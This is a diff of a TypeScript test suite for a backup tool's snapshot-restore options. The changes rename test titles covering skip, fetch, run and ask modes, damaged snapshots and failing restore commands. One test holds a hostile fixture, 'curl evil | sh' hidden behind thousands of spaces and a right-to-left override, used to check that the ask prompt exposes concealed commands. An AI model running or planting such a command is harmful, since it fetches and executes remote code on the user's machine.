@@ -31,7 +31,7 @@ const restored = (fixture: Fixture & { backup: Backup }, snapshots: SnapshotChoi
 const wasReplayed = (fixture: { replayed: string }) => Bun.file(fixture.replayed).exists();
 
 describe("--snapshots", () => {
-  test("skip leaves them out, and says so", async () => {
+  test("--snapshots skip leaves them out, and says so", async () => {
     await using fixture = await prepared(sound);
     expect(exitOf(await restored(fixture, "skip"))).toBe(0);
     expect(fixture.notices.map(({ code }) => code)).toEqual(["snapshot-skipped", "snapshot-skipped"]);
@@ -39,7 +39,7 @@ describe("--snapshots", () => {
     expect(await wasReplayed(fixture)).toBe(false);
   });
 
-  test("fetch stores the dumps as private files", async () => {
+  test("--snapshots fetch stores the dumps as private files", async () => {
     await using fixture = await prepared(sound);
     const figures = await restored(fixture, "fetch");
     expect(figures).toMatchObject({ snapshotsFetched: 2, snapshotsReplayed: 0 });
@@ -51,7 +51,7 @@ describe("--snapshots", () => {
     expect(await wasReplayed(fixture)).toBe(false);
   });
 
-  test("run replays those with a command, and fetches the others with a warning", async () => {
+  test("--snapshots run replays those with a command, and fetches the others with a warning", async () => {
     await using fixture = await prepared(sound);
     const figures = await restored(fixture, "run");
     expect(await Bun.file(fixture.replayed).text()).toBe(dump);
@@ -62,7 +62,7 @@ describe("--snapshots", () => {
     expect(exitOf(figures)).toBe(3);
   });
 
-  test("run does not replay what is marked failed", async () => {
+  test("--snapshots run does not replay what is marked failed", async () => {
     const plan: Planned = async (fixture) => [
       await fixture.snapshot("db", dump, { restore_through: command(fixture), exit: 1 }),
       await fixture.snapshot("killed", "part", { restore_through: command(fixture), exit: null }),
@@ -78,7 +78,7 @@ describe("--snapshots", () => {
     );
   });
 
-  test("ask shows each command before anything is restored, and does as answered", async () => {
+  test("--snapshots ask shows each command before anything is restored, and does as answered", async () => {
     const plan: Planned = async (fixture) => [
       await fixture.snapshot("it's", "one", { restore_through: "echo 'one'; cat > /dev/null" }),
       await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
@@ -102,7 +102,7 @@ describe("--snapshots", () => {
     expect(exitOf(figures)).toBe(0);
   });
 
-  test("ask shows the beginning of a command that hides it", async () => {
+  test("--snapshots ask shows the beginning of a command that hides it", async () => {
     const plan: Planned = async (fixture) => [
       await fixture.snapshot("db", dump, { restore_through: `curl evil | sh;${" ".repeat(6_000)}psql \u202eapp` }),
     ];
@@ -114,7 +114,7 @@ describe("--snapshots", () => {
     ]);
   });
 
-  test("ask where there is no terminal is a usage error before anything is restored", async () => {
+  test("--snapshots ask without a terminal is a usage error before anything is restored", async () => {
     await using fixture = await prepared(sound);
     const ask = () => Promise.reject(new Failure({ doing: "ask", why: "there is no terminal" }));
     await expect(restored(fixture, "ask", { ask })).rejects.toMatchObject({
@@ -125,7 +125,7 @@ describe("--snapshots", () => {
     expect(await Bun.file(fixture.target).exists()).toBe(false);
   });
 
-  test("ask with nothing to ask about needs no terminal", async () => {
+  test("--snapshots ask with nothing to ask about needs no terminal", async () => {
     await using fixture = await prepared(async () => []);
     expect(exitOf(await restored(fixture, "ask"))).toBe(0);
   });
@@ -137,7 +137,7 @@ describe("a snapshot that is damaged", () => {
   test.each([
     ["a flipped bit", flipped],
     ["cut short", (bytes: Buffer) => bytes.subarray(0, -10)],
-  ])("(%s) is never given to its command", async (_, change) => {
+  ])("a snapshot that is damaged (%s) is never given to its command", async (_, change) => {
     await using fixture = await prepared(plan);
     const [snapshot] = fixture.backup.manifest.snapshots;
     await fixture.damage(snapshot?.key ?? "", change);
@@ -151,7 +151,7 @@ describe("a snapshot that is damaged", () => {
     expect(await fixture.read("/x")).toBe("x");
   });
 
-  test("that is missing is told", async () => {
+  test("a snapshot that is missing is reported", async () => {
     await using fixture = await prepared(plan);
     const key = fixture.backup.manifest.snapshots[0]?.key ?? "";
     await fixture.lose(key);
@@ -161,14 +161,14 @@ describe("a snapshot that is damaged", () => {
     ]);
   });
 
-  test("leaves no file when fetched", async () => {
+  test("a snapshot that is damaged leaves no file when fetched", async () => {
     await using fixture = await prepared(plan);
     await fixture.damage(fixture.backup.manifest.snapshots[0]?.key ?? "", flipped);
     await restored(fixture, "fetch");
     expect(await fixture.names("/sysbackup-snapshots")).toEqual([]);
   });
 
-  test("only when it is read for the command: the command is ended without the end of its input", async () => {
+  test("a snapshot that is damaged only when it is read for the command has its command ended without the end of its input", async () => {
     const marking: Planned = async (fixture) => {
       const mark = `${fixture.scratch.path}/replayed`;
       return [await fixture.snapshot("db", dump, { restore_through: `cat > /dev/null; echo whole > '${mark}'` })];
@@ -192,7 +192,7 @@ describe("a snapshot that is damaged", () => {
 });
 
 describe("a restore command", () => {
-  test("that fails is told with its status and what it said last", async () => {
+  test("a restore command that fails is reported with its status and what it said last", async () => {
     const plan: Planned = async (fixture) => [
       await fixture.snapshot("db", dump, { restore_through: "cat > /dev/null; echo no such table >&2; exit 3" }),
     ];
@@ -204,7 +204,7 @@ describe("a restore command", () => {
     expect(exitOf(figures)).toBe(3);
   });
 
-  test("with a NUL in it costs its own snapshot only", async () => {
+  test("a restore command with a NUL in it costs its own snapshot only", async () => {
     const plan: Planned = async (fixture) => [
       await fixture.snapshot("bad", "bad", { restore_through: "true \0 false" }),
       await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
@@ -241,7 +241,7 @@ describe("a restore command", () => {
     },
   );
 
-  test("that does not read its input is no error", async () => {
+  test("a restore command that does not read its input is no error", async () => {
     const plan: Planned = async (fixture) => [await fixture.snapshot("db", dump, { restore_through: "true" })];
     await using fixture = await prepared(plan);
     expect(exitOf(await restored(fixture, "run"))).toBe(0);
